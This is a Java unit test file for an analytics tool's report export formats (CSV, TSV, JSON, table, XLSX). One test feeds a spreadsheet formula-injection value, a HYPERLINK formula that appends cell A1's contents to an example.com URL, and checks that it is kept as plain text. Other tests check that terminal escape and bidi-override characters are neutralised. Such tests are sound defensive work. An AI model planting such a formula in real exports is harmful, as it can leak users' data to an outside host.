// Copyright the analytix-beam authors.
// SPDX-License-Identifier: Apache-2.0

package io.analytix.beam.pipelines.cli.query;

import static com.google.common.truth.Truth.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import io.analytix.beam.catalogue.Catalogue;
import io.analytix.beam.catalogue.ReportQuery;
import io.analytix.beam.pipelines.cli.console.DisplayWidth;
import io.analytix.beam.query.Report;
import io.analytix.beam.query.ReportRow;
import io.analytix.beam.report.Column;
import io.analytix.beam.report.Columns;
import java.io.InputStream;
import java.io.StringReader;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.Arrays;
import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import java.util.zip.ZipFile;
import javax.xml.parsers.DocumentBuilderFactory;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.w3c.dom.Element;
import org.w3c.dom.NodeList;
import org.xml.sax.InputSource;

final class ReportFormatTest {
  private static final List<Column> COLUMNS =
      Stream.of("month", "insightTrafficSourceDetail", "views", "estimatedRevenue")
          .map(name -> Columns.find(name).orElseThrow())
          .toList();

  private static final Report ODD =
      report(LocalDate.parse("2026-02-01"), "a, \"b\"\nc\td", null, new BigDecimal("0.000000100"));

  @TempDir Path folder;

  private static Report report(Object... cells) {
    return new Report(
        Catalogue.current().types().get(0),
        ReportQuery.of("views").build(),
        COLUMNS,
        List.of(new ReportRow(COLUMNS, Arrays.asList(cells))),
        List.of());
  }

  @Test
  void csv_commasQuotesAndLineBreaks_areQuoted() throws Exception {
    assertThat(text(ReportFormat.CSV))
        .isEqualTo(
            """
            month,insightTrafficSourceDetail,views,estimatedRevenue\r
            2026-02,"a, ""b""
            c\td",,0.000000100\r
            """);
  }

  @Test
  void tsv_tabs_areQuoted() throws Exception {
    assertThat(text(ReportFormat.TSV))
        .isEqualTo(
            """
            month\tinsightTrafficSourceDetail\tviews\testimatedRevenue\r
            2026-02\t"a, ""b""
            c\td"\t\t0.000000100\r
            """);
  }

  @Test
  void json_moneyIsExactAndPlain_absentIsNull() throws Exception {
    assertThat(text(ReportFormat.JSON))
        .isEqualTo(
            """
            [ {
              "month" : "2026-02",
              "insightTrafficSourceDetail" : "a, \\"b\\"\\nc\\td",
              "views" : null,
              "estimatedRevenue" : 0.000000100
            } ]
            """);
  }

  @Test
  void table_numbersAreFlushRight_moneyIsBrief() throws Exception {
    Report plain =
        report(LocalDate.parse("2026-02-01"), "music", 12L, new BigDecimal("3.500000000"));

    assertThat(new String(ReportFormat.TABLE.bytes(plain), StandardCharsets.UTF_8))
        .isEqualTo(
            """
            month    insightTrafficSourceDetail  views  estimatedRevenue
            2026-02  music                          12              3.50
            """);
  }

  @Test
  void table_untrustedText_isOneAlignedLineWithoutControlCharacters() throws Exception {
    Report odd =
        report(LocalDate.parse("2026-02-01"), "\u001B[31m red\n\u202E", -12L, money("-0.5"));
    assertThat(table(odd))
        .isEqualTo(
            """
            month    insightTrafficSourceDetail  views  estimatedRevenue
            2026-02  ?[31m red??                   -12             -0.50
            """);

    for (String script : List.of("猫の動画", "한국어", "e\u0301te\u0301", "Ｗ", "🎸 solo", "plain")) {
      Report wide = report(LocalDate.parse("2026-02-01"), script, 1L, money("1"));
      List<String> lines = table(wide).lines().toList();
      assertThat(DisplayWidth.of(lines.get(1))).isEqualTo(lines.get(0).length());
    }
    assertThat(DisplayWidth.of("猫の動画")).isEqualTo(8);
    assertThat(DisplayWidth.of("e\u0301te\u0301")).isEqualTo(3);
    assertThat(DisplayWidth.of("👩\u200D🚀")).isEqualTo(4);
  }

  @Test
  void everyFormat_noRows_stillNamesTheColumns() throws Exception {
    Report empty =
        new Report(
            Catalogue.current().types().get(0),
            ReportQuery.of("views").build(),
            COLUMNS,
            List.of(),
            List.of());

    assertThat(table(empty))
        .isEqualTo("month  insightTrafficSourceDetail  views  estimatedRevenue\n");
    assertThat(new String(ReportFormat.CSV.bytes(empty), StandardCharsets.UTF_8))
        .isEqualTo("month,insightTrafficSourceDetail,views,estimatedRevenue\r\n");
    assertThat(new String(ReportFormat.JSON.bytes(empty), StandardCharsets.UTF_8))
        .isEqualTo("[ ]\n");
    assertThat(part(ReportFormat.XLSX.bytes(empty), "xl/sharedStrings.xml"))
        .contains("estimatedRevenue");
  }

  @Test
  void csv_bigNumbers_areWrittenOut() {
    Column ratio = Columns.find("averageViewPercentage").orElseThrow();

    assertThat(CellText.of(ratio, 12_345_678.5)).isEqualTo("12345678.5");
    assertThat(CellText.of(ratio, 0.0001)).isEqualTo("0.00010");
  }

  @Test
  void everyFormat_textThatASpreadsheetInterprets_isKept() throws Exception {
    for (String term :
        List.of(
            "=HYPERLINK(\"http://example.com/?\"&A1,\"click\")",
            "+1 555 0100",
            "-dash-video-id",
            "@somebody",
            "\tindented ",
            "00123",
            "1E5",
            "a,b \"c\"\nd",
            "a\r\nb\rc",
            "_x0041_ <&> \uD83C\uDFB8",
            "a\u0001b")) {
      Report report = report(LocalDate.parse("2026-02-01"), term, -4L, null);

      assertThat(onlyTerm(report, CSVFormat.RFC4180, ReportFormat.CSV)).isEqualTo(term);
      assertThat(
              onlyTerm(
                  report, CSVFormat.RFC4180.builder().setDelimiter('\t').get(), ReportFormat.TSV))
          .isEqualTo(term);
      assertThat(
              new ObjectMapper()
                  .readTree(ReportFormat.JSON.bytes(report))
                  .path(0)
                  .path("insightTrafficSourceDetail")
                  .asText())
          .isEqualTo(term);
      byte[] workbook = ReportFormat.XLSX.bytes(report);
      assertThat(part(workbook, "xl/worksheets/sheet1.xml")).containsMatch("<c r=\"B2\" t=\"s\">");
      assertThat(part(workbook, "xl/worksheets/sheet1.xml")).doesNotContain("<f>");
      assertThat(sharedTexts(part(workbook, "xl/sharedStrings.xml"))).contains(term);
    }
  }

  private static String onlyTerm(Report report, CSVFormat format, ReportFormat written)
      throws Exception {
    String text = new String(written.bytes(report), StandardCharsets.UTF_8);
    return CSVParser.parse(text, format).getRecords().get(1).get(1);
  }

  /** The texts of a workbook as a spreadsheet reads them (ECMA-376, part 1, 22.4.2.4). */
  private static List<String> sharedTexts(String xml) throws Exception {
    NodeList texts =
        DocumentBuilderFactory.newInstance()
            .newDocumentBuilder()
            .parse(new InputSource(new StringReader(xml)))
            .getElementsByTagName("t");
    return IntStream.range(0, texts.getLength())
        .mapToObj(i -> (Element) texts.item(i))
        .map(
            t ->
                t.getAttribute("xml:space").equals("preserve")
                    ? t.getTextContent()
                    : t.getTextContent().strip())
        .map(
            text ->
                Pattern.compile("_x([0-9A-Fa-f]{4})_")
                    .matcher(text)
                    .replaceAll(
                        escape ->
                            Matcher.quoteReplacement(
                                String.valueOf((char) Integer.parseInt(escape.group(1), 16)))))
        .toList();
  }

  @Test
  void xlsx_daysAreDates_numbersAreNumbers_absentIsNoCell() throws Exception {
    String sheet = part(ReportFormat.XLSX.bytes(ODD), "xl/worksheets/sheet1.xml");

    assertThat(sheet).containsMatch("<c r=\"A2\" s=\"\\d+\" t=\"n\"><v>46054");
    assertThat(sheet).contains("<c r=\"B2\" t=\"s\">");
    assertThat(sheet).doesNotContain("r=\"C2\"");
    assertThat(sheet).containsMatch("<c r=\"D2\" s=\"\\d+\" t=\"n\"><v>1.00E-7</v>");
    assertThat(part(ReportFormat.XLSX.bytes(ODD), "xl/sharedStrings.xml")).contains("a, ");
    assertThat(part(ReportFormat.XLSX.bytes(ODD), "xl/styles.xml"))
        .containsMatch("(?s)yyyy-mm.*0.00#######");
  }

  @Test
  void losses_xlsx_namesWhatAWorkbookCannotHold() {
    Report long1 =
        report(
            LocalDate.parse("2026-02-01"),
            "x".repeat(40_000) + "\u0007",
            9_007_199_254_740_993L,
            money("1"));

    assertThat(ReportFormat.XLSX.losses(long1))
        .containsExactly(
            "xlsx: 1 text cut to 32,767 characters; csv and parquet are exact",
            "xlsx: 1 number rounded to 15 digits by spreadsheets; csv and parquet are exact")
        .inOrder();
    assertThat(ReportFormat.XLSX.losses(ODD)).isEmpty();
    assertThat(ReportFormat.CSV.losses(long1)).isEmpty();
  }

  @Test
  void json_unprintableCharacters_areEscaped() throws Exception {
    Report odd =
        report(LocalDate.parse("2026-02-01"), "\u007f\u009b2J\u202e\u00e9\u0001", 1L, money("1"));

    assertThat(new String(ReportFormat.JSON.bytes(odd), StandardCharsets.UTF_8))
        .contains("\"\\u007F\\u009B2J\\u202E\u00e9\\u0001\"");
  }

  private static BigDecimal money(String amount) {
    return new BigDecimal(amount).setScale(9);
  }

  private static String table(Report report) throws Exception {
    return new String(ReportFormat.TABLE.bytes(report), StandardCharsets.UTF_8);
  }

  /** As a spreadsheet reads it: by the directory at the end. */
  private String part(byte[] workbook, String name) throws Exception {
    Path file = Files.write(folder.resolve("report.xlsx"), workbook);
    try (ZipFile parts = new ZipFile(file.toFile());
        InputStream part = parts.getInputStream(parts.getEntry(name))) {
      return new String(part.readAllBytes(), StandardCharsets.UTF_8);
    }
  }

  @Test
  void ofFile_extension_returnsTheFormat() {
    assertThat(ReportFormat.ofFile("a.b.parquet")).hasValue(ReportFormat.PARQUET);
    assertThat(ReportFormat.ofFile("REPORT.CSV")).hasValue(ReportFormat.CSV);
    assertThat(ReportFormat.ofFile("report.txt")).hasValue(ReportFormat.TABLE);
    assertThat(ReportFormat.ofFile("report.xls")).isEmpty();
  }

  private static String text(ReportFormat format) throws Exception {
    return new String(format.bytes(ODD), StandardCharsets.UTF_8);
  }
}
